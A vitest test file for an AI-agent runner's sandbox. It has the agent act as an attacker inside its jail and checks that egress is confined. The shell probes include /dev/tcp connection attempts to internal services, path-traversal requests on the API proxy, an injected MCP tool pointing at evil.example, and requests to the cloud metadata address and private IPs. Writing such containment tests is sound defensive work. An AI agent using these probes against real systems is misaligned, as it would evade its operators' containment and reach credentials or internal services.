import { beforeAll, describe, expect, it } from 'vitest';
import { readLog } from '../chaos/support/api.js';
import { attack, cluster, mirrorPort, useJailCluster, user } from './support/jail.js';

// The agent as an attacker inside its sandbox, against the jail (src/sandbox/jail.ts in the runner):
// where its network reaches, with the egress allowlist and in open mode.

useJailCluster();

describe('an agent in its jail', () => {
  it('reaches neither NATS, nor the database, nor any address outside', async () => {
    const [natsHost, natsPort] = new URL(cluster.env.NATS_URL!).host.split(':');
    const [mongoHost, mongoPort] = new URL(cluster.env.MONGO_URL!).host.split(':');
    const probe = (label: string, host: string, port: string) =>
      `if timeout 5 bash -c 'exec 3<>/dev/tcp/${host}/${port}' 2>/dev/null; then echo "${label}: connected"; else echo "${label}: refused"; fi`;
    const { found } = await attack(
      'network',
      [
        probe('nats', natsHost!, natsPort!),
        probe('mongo', mongoHost!, mongoPort!),
        probe('outside', '1.1.1.1', '80'),
        probe('model', new URL(cluster.fake!.baseUrl).hostname, new URL(cluster.fake!.baseUrl).port),
        // Through the jail's bridge, the rest of the provider's API (which the key would open).
        ...['/v1/files', '/v1/organization/users', '/v1/%2e%2e/admin', '/v1/responses/../files', '/admin'].map(
          (path) => `echo "proxy ${path}: $(curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:18080${path})"`,
        ),
        // A turn's request whose body has the provider reach out for the agent: an MCP server of its own.
        `echo "proxy mcp: $(curl -s -o /dev/null -w '%{http_code}' -H 'content-type: application/json' -d '{"model":"m","input":"x","tools":[{"type":"mcp","server_url":"https://evil.example/mcp"}]}' http://127.0.0.1:18080/v1/responses)"`,
      ].join('\n'),
    );
    expect(found).toContain('nats: refused');
    expect(found).toContain('mongo: refused');
    expect(found).toContain('outside: refused');
    // Not even the model endpoint directly: only through the runner's proxy.
    expect(found).toContain('model: refused');
    expect(found).not.toContain('connected');
    for (const path of [
      '/v1/files',
      '/v1/organization/users',
      '/v1/%2e%2e/admin',
      '/v1/responses/../files',
      '/admin',
    ]) {
      expect(found).toContain(`proxy ${path}: 403`);
    }
    expect(found).toContain('proxy mcp: 403');
  });

  it('goes out only through the egress proxy, to the hosts allowed; each refusal is in the run’s events and the runner’s log', async () => {
    const [natsHost, natsPort] = new URL(cluster.env.NATS_URL!).host.split(':');
    const via = `curl -sS -m 10 -x "$HTTPS_PROXY" --noproxy ''`;
    const { found, runId } = await attack(
      'egress',
      [
        'echo "proxy: $HTTPS_PROXY"',
        `echo "mirror: $(${via} http://localhost:${mirrorPort}/pkg)"`,
        `echo "unlisted: $(curl -sS -m 10 -o /dev/null -w '%{http_connect}' https://example.com/ 2>/dev/null)"`,
        `echo "metadata: $(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/meta-data/)"`,
        `echo "nats: $(${via} -o /dev/null -w '%{http_code}' http://${natsHost}:${natsPort}/)"`,
      ].join('\n'),
    );
    expect(found).toContain('proxy: http://127.0.0.1:18081');
    expect(found).toContain('mirror: mirror answered /pkg');
    expect(found).toContain('unlisted: 403');
    expect(found).toContain('metadata: 403');
    expect(found).toContain('nats: 403');
    const refused = (await readLog(cluster, user, runId))
      .map((e) => e.chunk as { type: string; host?: string; port?: number; reason?: string })
      .filter((c) => c.type === 'network.refused');
    expect(refused).toEqual([
      {
        type: 'network.refused',
        code: 'egress_denied',
        host: 'example.com',
        port: 443,
        reason: 'not in SANDBOX_EGRESS_ALLOW',
      },
      {
        type: 'network.refused',
        code: 'egress_denied',
        host: '169.254.169.254',
        port: 80,
        reason: 'not in SANDBOX_EGRESS_ALLOW',
      },
      {
        type: 'network.refused',
        code: 'egress_denied',
        host: natsHost,
        port: Number(natsPort),
        reason: 'not in SANDBOX_EGRESS_ALLOW',
      },
    ]);
    const logged = cluster
      .runners()[0]!
      .output()
      .split('\n')
      .filter((line) => line.includes('refused a connection out of the sandbox') && line.includes(runId));
    expect(logged).toHaveLength(3);
  });
});

describe('an agent whose runner lets it reach any public host (SANDBOX_EGRESS=open)', () => {
  beforeAll(async () => {
    // The same deployment, its runner replaced by one in open mode.
    for (const runner of cluster.runners()) await runner.stop();
    await cluster.startRunner({ SANDBOX_EGRESS: 'open', SANDBOX_EGRESS_ALLOW: '' });
  });

  it('still reaches no internal address: loopback, private, link-local (cloud metadata), NAT64; each refusal is an event', async () => {
    // Addresses only: the proxy refuses each before any connection is tried.
    const targets: [url: string, host: string, port: number][] = [
      ['http://169.254.169.254/latest/meta-data/', '169.254.169.254', 80],
      ['https://169.254.169.254/', '169.254.169.254', 443],
      ['http://127.0.0.1/', '127.0.0.1', 80],
      ['http://localhost/', 'localhost', 80],
      ['https://10.0.0.1/', '10.0.0.1', 443],
      ['http://172.16.0.1/', '172.16.0.1', 80],
      ['http://192.168.1.1/', '192.168.1.1', 80],
      ['http://[fe80::1]/', '[fe80::1]', 80],
      ['http://[64:ff9b::a9fe:a9fe]/', '[64:ff9b::a9fe:a9fe]', 80],
      ['https://[::ffff:169.254.169.254]/', '[::ffff:169.254.169.254]', 443],
    ];
    const via = `curl -sS -m 10 -x "$HTTPS_PROXY" --noproxy ''`;
    const { found, runId } = await attack(
      'open-internal',
      targets
        .map(([url], i) => `echo "${i}: $(${via} -o /dev/null -w '%{http_code} %{http_connect}' '${url}' 2>/dev/null)"`)
        .join('\n'),
    );
    targets.forEach(([url], i) => {
      // A plain request is answered 403; a tunnel (https) is refused with 403 before it is made.
      expect(found, url).toMatch(new RegExp(`^${i}: (403 000|000 403)$`, 'm'));
    });
    const events = (await readLog(cluster, user, runId)).map(
      (e) => e.chunk as { type: string; egress?: string; host?: string; port?: number; reason?: string },
    );
    expect(events.find((c) => c.type === 'sandbox.ready')).toMatchObject({ egress: 'open' });
    expect(events.filter((c) => c.type === 'network.refused')).toEqual(
      targets.map(([, host, port]) => ({
        type: 'network.refused',
        code: 'egress_denied',
        host,
        port,
        reason: 'it resolves to an internal address',
      })),
    );
  });
});
